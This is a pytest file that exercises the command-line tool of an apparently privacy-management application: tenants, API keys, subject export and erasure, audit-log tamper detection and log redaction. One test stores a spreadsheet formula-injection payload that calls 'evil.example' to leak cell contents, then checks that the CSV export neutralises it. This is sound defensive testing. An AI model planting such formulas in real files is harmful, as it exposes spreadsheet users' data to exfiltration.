"""Every CLI command, run as an operator would, against both databases."""

from __future__ import annotations

import csv
import io
import json
import logging
import os
import socket
import stat
import subprocess
import sys
import time
from pathlib import Path

import httpx2 as httpx
import pytest
from fastapi.testclient import TestClient
from rich.console import Console
from sqlalchemy import delete, inspect, text, update
from typer.testing import CliRunner

import pledge.cli.common as cli_common
from pledge.audit.models import AuditEntry, AuditHead
from pledge.cli.main import app
from pledge.core.config import reset_settings_cache
from pledge.core.db import Base, make_engine
from pledge.mail import reading as mail_reading
from pledge.runtime import Runtime
from pledge.tenants.models import Tenant
from pledge.web.app import create_app
from tests.conftest import (
    PASSWORD,
    Backend,
    _create_pg_database,
    _pg_admin_url,
    _pg_name,
    make_tenant,
    post_login,
)

runner = CliRunner()


def run(*args: str, stdin: str | None = None) -> tuple[int, str]:
    result = runner.invoke(app, list(args), input=stdin)
    return result.exit_code, " ".join(result.output.split())


def _seed(tmp_path: Path, tenant: str) -> None:
    csv_path = tmp_path / "c.csv"
    csv_path.write_text(
        "email,first_name,last_name\nmia@example.com,Mia,Moss\nned@example.com,Ned,Nash\n"
    )
    code, out = run("subjects", "import", "-t", tenant, str(csv_path))
    assert code == 0, out


def test_init_creates_home_key_and_schema(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, backend: Backend
) -> None:
    home = tmp_path / "home"
    monkeypatch.setenv("PLEDGE_HOME", str(home))
    for var in ("PLEDGE_DATABASE_URL", "PLEDGE_KEYSTORE_URL", "PLEDGE_MASTER_KEY"):
        monkeypatch.delenv(var, raising=False)
    if backend.kind == "postgresql":
        monkeypatch.setenv(
            "PLEDGE_DATABASE_URL",
            _create_pg_database(_pg_admin_url() or "", _pg_name("pledge_init_test")),
        )
    reset_settings_cache()
    try:
        code, out = run("init")
        assert code == 0, out
        key = home / "master.key"
        assert stat.S_IMODE(key.stat().st_mode) == 0o600
        assert stat.S_IMODE(home.stat().st_mode) == 0o700
        first = key.read_bytes()
        code, out = run("init")  # idempotent: the key is kept, migrations are current
        assert code == 0 and key.read_bytes() == first and "(exists)" in out
        url = os.environ.get("PLEDGE_DATABASE_URL") or f"sqlite:///{home / 'pledge.db'}"
        engine = make_engine(url)
        assert {"tenants", "subjects", "audit_entries"} <= set(inspect(engine).get_table_names())
        engine.dispose()
        assert (home / "keystore.db").exists()
    finally:
        reset_settings_cache()


def test_commands_refuse_to_run_before_init(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("PLEDGE_HOME", str(tmp_path / "empty"))
    for var in ("PLEDGE_DATABASE_URL", "PLEDGE_KEYSTORE_URL", "PLEDGE_MASTER_KEY"):
        monkeypatch.delenv(var, raising=False)
    reset_settings_cache()
    try:
        code, out = run("tenant", "list")
        assert code == 1 and "pledge init" in out
    finally:
        reset_settings_cache()


def test_tenant_user_and_apikey_commands(runtime: Runtime, cli_env: dict[str, str]) -> None:
    code, out = run(
        "tenant",
        "create",
        "oneclick",
        "--name",
        "One Click System",
        "--jurisdiction",
        "US-CA",
        "--jurisdiction",
        "EU",
        "--retention-class",
        "billing=Billing, 7 years",
    )
    assert code == 0 and "Tenant oneclick created" in out
    code, out = run("tenant", "create", "oneclick", "--name", "Again")
    assert code == 1 and "already exists" in out
    code, out = run("tenant", "create", "Bad Slug!", "--name", "X")
    assert code == 1 and "slug" in out
    code, out = run("tenant", "list")
    assert "oneclick" in out and "EU, US-CA" in out

    code, out = run(
        "user",
        "add",
        "-t",
        "oneclick",
        "--email",
        "dpo@oneclick.example",
        "--role",
        "privacy_officer",
        "--password-stdin",
        stdin=PASSWORD + "\n",
    )
    assert code == 0 and "as privacy_officer" in out
    code, out = run(
        "user",
        "add",
        "-t",
        "oneclick",
        "--email",
        "x@oneclick.example",
        "--password-stdin",
        stdin="short\n",
    )
    assert code == 1 and "12 characters" in out

    result = runner.invoke(
        app,
        ["apikey", "create", "-t", "oneclick", "--scope", "subjects:read", "--scope", "audit:read"],
    )
    assert result.exit_code == 0
    token = result.stdout.strip().splitlines()[-1]
    assert token.startswith("plg_")
    code, out = run("apikey", "create", "-t", "oneclick", "--scope", "subjects:everything")
    assert code == 1 and "unknown scope" in out
    code, out = run("apikey", "list", "-t", "oneclick")
    # The secret is URL-safe base64 and may hold "_" itself: split off the three labels only.
    _prefix, _tenant, key_id, secret = token.split("_", 3)
    assert "audit:read" in out and "subjects:read" in out and secret not in out
    import uuid

    code, out = run("apikey", "revoke", "-t", "oneclick", str(uuid.UUID(key_id)))
    assert code == 0 and "revoked" in out
    code, out = run("apikey", "revoke", "-t", "oneclick", "nonsense")
    assert code == 1 and "no such API key" in out


def test_export_json_and_csv_and_a_clear_error_when_missing(
    runtime: Runtime, tenant: str, cli_env: dict[str, str], tmp_path: Path
) -> None:
    _seed(tmp_path, tenant)
    result = runner.invoke(app, ["subjects", "export", "-t", tenant, "--email", "MIA@example.com"])
    assert result.exit_code == 0
    record = json.loads(result.stdout)
    assert {f["name"]: f["value"] for f in record["fields"]} == {
        "email": "mia@example.com",
        "first_name": "Mia",
        "last_name": "Moss",
    }
    result = runner.invoke(
        app, ["subjects", "export", "-t", tenant, "--email", "ned@example.com", "--format", "csv"]
    )
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert {(r["record"], r["name"], r["value"]) for r in rows} == {
        ("field", "email", "ned@example.com"),
        ("field", "first_name", "Ned"),
        ("field", "last_name", "Nash"),
    }
    code, out = run("subjects", "export", "-t", tenant, "--email", "nobody@example.com")
    assert code == 1 and "no subject with that e-mail" in out
    code, out = run("subjects", "export", "-t", "no-such-tenant", "--email", "mia@example.com")
    assert code == 1 and "no tenant" in out


def test_export_csv_prefixes_formula_cells_and_keeps_numbers(
    runtime: Runtime, tenant: str, cli_env: dict[str, str]
) -> None:
    from pledge.subjects import service as subjects
    from pledge.subjects.service import FieldInput

    formula = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    with runtime.tenant_context(tenant) as ctx:
        subjects.create_subject(
            ctx,
            [
                FieldInput("email", "sheet@example.com"),
                FieldInput("nickname", formula, category="user.name"),
                FieldInput("alias", "@SUM(A1:A9)", category="user.name"),
                FieldInput("office_line", "+44 7700 900123", category="user.contact"),
                FieldInput("balance", "-12.5", category="user.financial"),
            ],
        )
    result = runner.invoke(
        app, ["subjects", "export", "-t", tenant, "--email", "sheet@example.com", "--format", "csv"]
    )
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert {r["name"]: r["value"] for r in rows if r["record"] == "field"} == {
        "email": "sheet@example.com",
        "nickname": "'" + formula,
        "alias": "'@SUM(A1:A9)",
        "office_line": "+44 7700 900123",
        "balance": "-12.5",
    }


def test_erase_then_export_finds_nothing(
    runtime: Runtime, tenant: str, cli_env: dict[str, str], tmp_path: Path
) -> None:
    _seed(tmp_path, tenant)
    code, out = run("subjects", "erase", "-t", tenant, "--email", "mia@example.com", "--yes")
    assert code == 0 and "erased: keys shredded (standard)" in out
    code, out = run("subjects", "export", "-t", tenant, "--email", "mia@example.com")
    assert code == 1
    code, out = run("subjects", "erase", "-t", tenant, "--email", "mia@example.com", "--yes")
    assert code == 1 and "no subject" in out


def test_audit_verify_passes_then_names_the_tampered_entry(
    runtime: Runtime, tenant: str, cli_env: dict[str, str], tmp_path: Path
) -> None:
    _seed(tmp_path, tenant)
    code, out = run("audit", "verify")
    assert code == 0 and f"ok {tenant}" in out
    with runtime.tenant_context(tenant) as ctx:
        ctx.session.execute(
            update(AuditEntry).where(AuditEntry.seq == 3).values(details={"fields": ["forged"]})
        )
    code, out = run("audit", "verify", "--tenant", tenant)
    assert code == 1
    assert f"BROKEN {tenant}: first bad entry 3" in out


def test_audit_verify_checkpoints_then_catches_entries_cut_with_the_head_rewound(
    runtime: Runtime, tenant: str, cli_env: dict[str, str], tmp_path: Path
) -> None:
    _seed(tmp_path, tenant)
    code, out = run("audit", "verify", "--tenant", tenant)
    assert code == 0
    last = int(out.split(" entries verified")[0].split()[-1])
    assert f"checkpoint at entry {last}" in out
    with runtime.tenant_context(tenant) as ctx:
        # Write access to the data store alone: cut the last two entries, rewind the head.
        keep = ctx.session.get(AuditEntry, (ctx.tenant_id, last - 2))
        assert keep is not None
        ctx.session.execute(delete(AuditEntry).where(AuditEntry.seq > last - 2))
        ctx.session.execute(update(AuditHead).values(seq=last - 2, mac=keep.mac))
    code, out = run("audit", "verify", "--tenant", tenant)
    assert code == 1
    assert f"BROKEN {tenant}: first bad entry {last - 1}: entries after {last - 2} are gone" in out
    assert f"recorded entry {last}" in out


def test_audit_verify_reports_a_checkpointed_tenant_gone_from_the_data_store(
    runtime: Runtime, tenant: str, cli_env: dict[str, str]
) -> None:
    make_tenant(runtime, "other")
    code, out = run("audit", "verify")
    assert code == 0 and "ok other" in out
    with runtime.tenant_context("other") as ctx:
        gone = ctx.tenant_id
        # Write access to the data store alone: the tenant and everything of it deleted,
        # which takes its chain out of the list of chains to verify.
        for table in reversed(Base.metadata.sorted_tables):
            column = table.c.get("tenant_id")
            if column is not None:
                ctx.session.execute(table.delete().where(column == gone))
        ctx.session.execute(delete(Tenant).where(Tenant.id == gone))
    code, out = run("audit", "verify")
    assert code == 1 and f"ok {tenant}" in out
    assert f"BROKEN tenant {gone}: the keystore holds a checkpoint" in out


def test_audit_verify_shows_a_bar_per_tenant_on_a_terminal_only(
    runtime: Runtime, tenant: str, cli_env: dict[str, str], monkeypatch: pytest.MonkeyPatch
) -> None:
    make_tenant(runtime, "other")
    # Not a terminal (a log, a cron mail): the report lines and nothing of the bar.
    code, out = run("audit", "verify")
    assert code == 0 and f"ok {tenant}" in out and "ok other" in out
    assert "Verifying" not in out
    # A terminal: a bar per tenant, counting the chain's entries (its head's seq).
    screen = io.StringIO()
    terminal = Console(file=screen, force_terminal=True, width=100)
    monkeypatch.setattr(cli_common, "console", terminal)
    code, _ = run("audit", "verify")
    assert code == 0
    with runtime.tenant_context(tenant) as ctx:
        head = ctx.session.get(AuditHead, ctx.tenant_id)
        assert head is not None
    drawn = screen.getvalue()
    assert f"Verifying {tenant}" in drawn and "Verifying other" in drawn
    assert f"{head.seq}/{head.seq}" in drawn


def test_demo_without_serving_prints_a_login_that_works(
    runtime: Runtime, cli_env: dict[str, str]
) -> None:
    code, out = run("demo", "--subjects", "25", "--no-serve")
    assert code == 0, out
    password = out.split("password: ")[1].split()[0]
    assert "workspace: demo" in out and "admin@demo.example" in out
    with runtime.tenant_context("demo") as ctx:
        from pledge.subjects import reading

        assert sum(reading.count_subjects(ctx).values()) == 25
        assert reading.count_interactions(ctx) > 0
        # The campaign loop: the reader who unsubscribed from the first issue is not in the next.
        from pledge.campaigns import service as campaigns

        second, first = campaigns.list_campaigns(ctx)[:2]
        first_to = {m.subject_id for m in mail_reading.list_messages(ctx, campaign_id=first.id)}
        second_to = {m.subject_id for m in mail_reading.list_messages(ctx, campaign_id=second.id)}
        assert first.sent_count and second.sent_count == first.sent_count - 1
        assert len(first_to - second_to) == 1 and second_to < first_to
    assert "unsubscribed with one click" in out
    # Running it again keeps the data and gives a fresh password.
    code, out2 = run("demo", "--subjects", "25", "--no-serve")
    assert code == 0 and out2.split("password: ")[1].split()[0] != password


def _answering(proc: subprocess.Popen[bytes], base: str, log: Path) -> None:
    """Wait (up to 60 s) until the server started by `proc` answers /healthz."""
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline:
        if proc.poll() is not None:
            raise AssertionError(f"it stopped (exit code {proc.returncode}):\n{log.read_text()}")
        try:
            if httpx.get(f"{base}/healthz", timeout=1).status_code == 200:
                return
        except httpx.TransportError:
            pass
        time.sleep(0.2)
    raise AssertionError(f"no answer from {base} within 60 s:\n{log.read_text()}")


@pytest.mark.slow
def test_demo_prints_the_login_once_then_serves_it(
    runtime: Runtime, cli_env: dict[str, str], tmp_path: Path
) -> None:
    port = _free_port()
    base = f"http://127.0.0.1:{port}"
    log = tmp_path / "demo.log"  # a file, not a pipe: a full pipe would stop the server
    demo = ["demo", "--subjects", "5", "--port", str(port)]
    with log.open("wb") as out:
        proc = subprocess.Popen(
            [sys.executable, "-m", "pledge.cli.main", *demo],
            env={**os.environ, **cli_env},
            stdout=out,
            stderr=subprocess.STDOUT,
        )
    try:
        _answering(proc, base, log)
        shown = " ".join(log.read_text().split())
        assert shown.count("password: ") == 1, shown
        assert f"Sign in at {base}/login" in shown and "workspace: demo" in shown, shown
        email = shown.split("e-mail: ")[1].split()[0]
        password = shown.split("password: ")[1].split()[0]
        with httpx.Client(base_url=base, timeout=10) as browser:
            assert browser.get("/login").status_code == 200
            signed_in = post_login(browser, "demo", email, password)
            assert signed_in.status_code == 303, signed_in.text
            assert browser.get("/").status_code == 200
    finally:
        proc.terminate()
        try:
            proc.wait(timeout=20)
        except subprocess.TimeoutExpired:
            proc.kill()
            proc.wait()
    assert " ".join(log.read_text().split()).count("password: ") == 1  # not again on the way out


# A link token shaped like the real ones ("<id hex>.<id hex>.<secret>"), its secret easy to
# find in a log.
LINK_SECRET = "SeCrEt_of-the-link_0123456789abcdefghijklm"
LINK_TOKEN = f"{'1' * 32}.{'2' * 32}.{LINK_SECRET}"
_LINK_PATHS = (
    "/p/{slug}/requests/status/{token}",
    "/p/{slug}/requests/verify/{token}",
    "/p/{slug}/downloads/{token}",
    "/u/{token}",
)


def test_an_unexpected_error_is_logged_without_the_link_token(
    runtime: Runtime, tenant: str, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    from pledge.rights import status_links

    def broken(*_: object) -> None:
        raise RuntimeError(LINK_SECRET)

    monkeypatch.setattr(status_links, "request_for_status", broken)
    client = TestClient(create_app(runtime), raise_server_exceptions=False)
    with caplog.at_level(logging.ERROR, logger="pledge.web"):
        r = client.get(f"/p/{tenant}/requests/status/{LINK_TOKEN}")
    assert r.status_code == 500
    assert f"unexpected RuntimeError on GET /p/{tenant}/requests/status/…" in caplog.text
    assert LINK_SECRET not in caplog.text


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


@pytest.mark.slow
def test_serve_answers_and_logs_no_query_strings(
    runtime: Runtime, tenant: str, cli_env: dict[str, str]
) -> None:
    port = _free_port()
    proc = subprocess.Popen(
        [sys.executable, "-m", "pledge.cli.main", "serve", "--port", str(port)],
        env={**os.environ, **cli_env},
        stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT,
        text=True,
    )
    try:
        for _ in range(300):
            try:
                r = httpx.get(f"http://127.0.0.1:{port}/healthz", timeout=1)
                break
            except httpx.TransportError:
                if proc.poll() is not None:
                    break  # it stopped: its output says why
                time.sleep(0.1)
        else:
            raise AssertionError("pledge serve did not answer within 30 s")
        assert proc.poll() is None, f"pledge serve stopped (exit code {proc.returncode})"
        assert r.json()["status"] == "ok"
        httpx.get(f"http://127.0.0.1:{port}/login?next=/subjects&who=secret.person@example.com")
        base = f"http://127.0.0.1:{port}"
        for path in _LINK_PATHS:
            httpx.get(base + path.format(slug=tenant, token=LINK_TOKEN))
        httpx.post(base + f"/u/{LINK_TOKEN}")  # a one-click unsubscribe
        httpx.get(base + f"/p/{tenant}/no-such-page/{LINK_TOKEN}")  # no route matches
    finally:
        proc.terminate()
        output, _ = proc.communicate(timeout=10)
    assert "GET /healthz 200" in output and "GET /login 200" in output
    assert "secret.person" not in output
    # The secrets of public links stay out of the log; the route and the slug stay in it.
    assert LINK_SECRET not in output
    for path in _LINK_PATHS:
        assert f"GET {path.format(slug=tenant, token='…')} " in output
    assert "POST /u/… " in output
    assert f"GET /p/{tenant}/no-such-page/… 404" in output
    access_lines = [line for line in output.splitlines() if "pledge.access" in line]
    assert access_lines and not any(
        "127.0.0.1" in line for line in access_lines
    )  # no client address


def test_db_pragmas_enable_foreign_keys_on_sqlite(runtime: Runtime) -> None:
    if runtime.engine.dialect.name != "sqlite":
        pytest.skip("SQLite only")
    with runtime.engine.connect() as conn:
        assert conn.execute(text("PRAGMA foreign_keys")).scalar() == 1


def test_a_message_with_square_brackets_is_printed_as_it_is_not_a_traceback(
    runtime: Runtime, tenant: str, cli_env: dict[str, str], tmp_path: Path
) -> None:
    # The console reads [..] as style markup: "[/x]" in a message crashed the error report.
    path = tmp_path / "c.csv"
    path.write_text("email,[/x]\nmia@example.com,1\n")
    result = runner.invoke(app, ["subjects", "import", "-t", tenant, str(path)])
    out = " ".join(result.output.split())
    assert result.exit_code == 1
    assert "column '[/x]' needs a category" in out, out
    mapping = tmp_path / "map.toml"
    mapping.write_text("columns = 5\n")
    code, out = run("subjects", "import", "-t", tenant, str(path), "--mapping", str(mapping))
    assert code == 1 and "a mapping file has [columns.<name>] tables" in out, out


def test_names_with_square_brackets_are_listed_as_they_are(
    runtime: Runtime, cli_env: dict[str, str]
) -> None:
    code, out = run("tenant", "create", "brackets", "--name", "Acme [/x] [bold]Co")
    assert code == 0, out
    code, out = run("tenant", "list")
    assert code == 0 and "Acme [/x] [bold]Co" in out, out
    result = runner.invoke(
        app, ["apikey", "create", "-t", "brackets", "--scope", "*", "--name", "ci [/y]"]
    )
    assert result.exit_code == 0, result.output
    code, out = run("apikey", "list", "-t", "brackets")
    assert code == 0 and "ci [/y]" in out, out
